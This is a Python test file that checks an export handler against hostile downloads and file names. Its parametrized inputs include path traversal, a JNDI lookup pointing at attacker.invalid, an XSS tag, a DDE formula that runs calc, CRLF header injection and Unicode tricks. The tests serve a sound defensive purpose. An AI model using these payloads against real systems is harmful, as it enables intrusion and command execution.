"""Files that are made to hurt: each lands untouched or is refused as docs/hostile-files.md says, through the handler.

Served by the stand-in over real connections, fetched by fetch-file into a real archive.
"""

import hashlib
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from local.artifact import ROOT
from local.standin.accounts import DEMO_PROJECT_ID
from local.standin.faults.answers import answer
from local.standin.server import VendorStandIn
from tests.support.builders.requests import DAY, RECORDS
from tests.support.checks.landed import landed
from tests.support.checks.leaks import CANARIED
from tests.support.fixtures.handlers import Call
from tests.support.hostile import CORPUS, HostileFile, Lands, Refused, zips
from tests.support.hostile.table import table
from tests.support.servers.probe import Probe
from workspace_exports.audit.verify import Verdict, verify
from workspace_exports.core.clock import to_wire, utc_now
from workspace_exports.core.errors import BadFile
from workspace_exports.storage.store import Store

ON_A_FOLDER = pytest.mark.parametrize("archive_url", ["folder"], indirect=True)
KEY = re.compile(rf"data/kind=connection-records/project_id={DEMO_PROJECT_ID}/day={DAY}/[0-9a-f]+-[0-9a-f]+(\.[a-z]+)")


@pytest.fixture(scope="module")
def vendor() -> Iterator[VendorStandIn]:
    """One for all files: each has an archive of its own."""
    with VendorStandIn(contents=CANARIED, task_seconds=0) as vendor:
        yield vendor


@pytest.fixture(scope="module")
def finished(vendor: VendorStandIn) -> dict[str, Any]:
    """An export whose file is ready."""
    with Probe(vendor.url) as probe:
        probe.create("connection-records", start_time=f"{DAY}T00:00:00Z", end_time=f"{DAY}T23:59:59Z")
    (task,) = vendor.tasks
    facts = {"project_id": DEMO_PROJECT_ID, "task_id": task.task_id, "ordered_at": to_wire(utc_now())}
    return RECORDS | facts | {"status": "SUCCESS"}


def check_landed(store: Store, archived: dict[str, Any], content: bytes, format_: str) -> None:
    """Byte for byte, with nothing beside it but the manifest that describes it."""
    assert b"".join(store.chunks(archived["key"])) == content
    assert sorted(landed(store)) == sorted([archived["key"], archived["manifest_key"]])
    manifest = json.loads(store.read(archived["manifest_key"]) or b"")
    assert manifest["sha256"] == hashlib.sha256(content).hexdigest()
    assert (manifest["size_bytes"], manifest["format"]) == (len(content), format_)
    assert [finding.verdict for finding in verify(store)] == [Verdict.INTACT]


@ON_A_FOLDER
@pytest.mark.parametrize(
    "file",
    [
        pytest.param(file, id=file.name, marks=() if number % 8 == 0 else pytest.mark.check)
        for number, file in enumerate(CORPUS)
    ],
)
def test_a_hostile_file_lands_untouched_or_is_refused_as_documented(
    file: HostileFile, vendor: VendorStandIn, finished: dict[str, Any], fetch: Call, store: Store
) -> None:
    content = file.make()
    event = finished | {"file_name": file.file_name}
    vendor.script("download", answer(200, content))
    match file.verdict:
        case Lands(format_):
            check_landed(store, fetch(**event)["archived"], content, format_)
        case Refused(says):
            with pytest.raises(BadFile, match=says) as caught:
                fetch(**event)
            assert len(str(caught.value)) < 1000
            assert landed(store) == []
            genuine = vendor.report(finished["task_id"])
            check_landed(store, fetch(**finished, file_name="records.xlsx")["archived"], genuine, "xlsx")
    assert vendor.pending_faults == {}


@pytest.mark.parametrize("archive_url", ["s3"], indirect=True)
@pytest.mark.parametrize(
    "file",
    [file for file in CORPUS if file.name in {"more-entries-than-an-end-record-counts.zip", "page-behind-zip.xlsx"}],
    ids=lambda file: file.name,
)
def test_a_bucket_gets_it_whole_or_not_at_all_too(
    file: HostileFile, vendor: VendorStandIn, finished: dict[str, Any], fetch: Call, store: Store
) -> None:
    test_a_hostile_file_lands_untouched_or_is_refused_as_documented(file, vendor, finished, fetch, store)


@ON_A_FOLDER
@pytest.mark.parametrize(
    ("file_name", "extension"),
    [
        pytest.param("../../../../etc/cron.d/x.xlsx", ".xlsx", id="out-of-the-folder"),
        pytest.param("..\\..\\x.xlsx", ".xlsx", id="out-of-a-windows-folder"),
        pytest.param("/etc/passwd", ".bin", id="absolute"),
        pytest.param("records.xlsx/../../y", ".bin", id="extension-in-a-folder"),
        pytest.param("records.xlsx\r\nSet-Cookie: a=b", ".bin", id="line-break"),
        pytest.param("records\x00.xlsx", ".xlsx", id="nul"),
        pytest.param("records.xlsx\x00.exe", ".bin", id="nul-behind-the-extension"),
        pytest.param("records\u202excod.xlsx", ".xlsx", id="right-to-left"),
        pytest.param("records.XLSX", ".xlsx", id="capitals"),
        pytest.param("records.\u0425LSX", ".bin", id="cyrillic"),
        pytest.param("records.xlsx.exe", ".bin", id="two-extensions"),
        pytest.param(".xlsx", ".bin", id="extension-alone"),
        pytest.param("..", ".bin", id="dots"),
        pytest.param("", ".bin", id="empty"),
        pytest.param("${jndi:ldap://attacker.invalid/a}.xlsx", ".xlsx", id="lookup"),
        pytest.param("<script>alert(1)</script>.xlsx", ".xlsx", id="tag"),
        pytest.param("=cmd|'/C calc'!A0.xlsx", ".xlsx", id="formula"),
        pytest.param("a" * 0x10000 + ".xlsx", ".bin", id="64-kib"),
        pytest.param("a\ud800.xlsx", ".xlsx", id="half-a-character"),
    ],
)
def test_no_file_name_decides_where_a_file_lands_nor_what_is_in_it(
    file_name: str,
    extension: str,
    vendor: VendorStandIn,
    finished: dict[str, Any],
    poll: Call,
    fetch: Call,
    store: Store,
    tmp_path: Path,
) -> None:
    """Of the name in the vendor's list the key has an extension that we know; the download's own counts for nothing."""
    item = {"task_id": finished["task_id"], "status": "SUCCESS", "file_name": file_name}
    vendor.script("list", answer(200, json.dumps({"export_tasks": [item]}).encode()))
    disposition = "attachment; filename=\"../../../evil.csv\"; filename*=UTF-8''..%2F..%2Fevil.csv"
    vendor.script("download", answer(200, zips.BOOK, {"Content-Disposition": disposition}))
    seen = poll(**{name: value for name, value in finished.items() if name != "status"})
    assert (seen.get("file_name") or "x").isprintable()
    archived = fetch(**seen)["archived"]
    found = KEY.fullmatch(archived["key"])
    assert found
    assert found[1] == extension
    check_landed(store, archived, zips.BOOK, "xlsx")
    folders = {"data", "manifests", "orders"}
    assert {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*")} <= folders


@ON_A_FOLDER
@pytest.mark.parametrize(
    "file_name", ["records\x00.xlsx", "../../../x.xlsx", "a" * 0x10000 + ".xlsx"], ids=["nul", "path", "long"]
)
def test_nor_does_one_that_a_caller_hands_in(
    file_name: str, vendor: VendorStandIn, finished: dict[str, Any], fetch: Call, store: Store
) -> None:
    vendor.script("download", answer(200, zips.BOOK))
    archived = fetch(**finished, file_name=file_name)["archived"]
    found = KEY.fullmatch(archived["key"])
    assert found
    assert found[1] == ".xlsx"
    check_landed(store, archived, zips.BOOK, "xlsx")


def test_the_documented_table_is_what_these_tests_see() -> None:
    assert table() in (ROOT / "docs" / "hostile-files.md").read_text()


def test_the_corpus_has_every_verdict_and_no_name_twice() -> None:
    assert len({file.name for file in CORPUS}) == len(CORPUS)
    assert {type(file.verdict) for file in CORPUS} == {Lands, Refused}
    assert all(file.make() == file.make() for file in CORPUS)
